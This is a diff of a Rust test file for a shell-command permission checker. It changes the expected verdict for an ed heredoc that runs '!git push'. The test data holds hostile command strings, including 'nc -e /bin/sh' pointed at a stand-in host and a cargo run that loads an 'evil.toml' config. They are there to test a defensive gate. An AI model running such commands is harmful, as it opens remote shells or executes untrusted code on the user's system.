@@ -113,8 +113,9 @@ fn commands_run_through_transports_variables_editors_and_sockets() {
         ("awk '{ print $1 > \"/dev/stderr\" }' x.txt", Allow),
         ("TAR_OPTIONS='-v' tar xf a.tar", Ask),
     ]);
-    // `ed` runs the commands on its input, `nc -e` a program fed by the network
-    assert_eq!(check("ed -s x.txt <<< '!git push'"), (Ask, true));
+    // `ed` runs the commands on its input (round 13: a literal `!CMD` line is judged as CMD),
+    // `nc -e` a program fed by the network
+    assert_eq!(check("ed -s x.txt <<< '!git push'").0, Deny);
     assert_eq!(check("nc -e /bin/sh x.example 1"), (Ask, true));
     // a configuration file may set any runner
     assert_eq!(check("cargo test --config ../evil.toml"), (Ask, true));
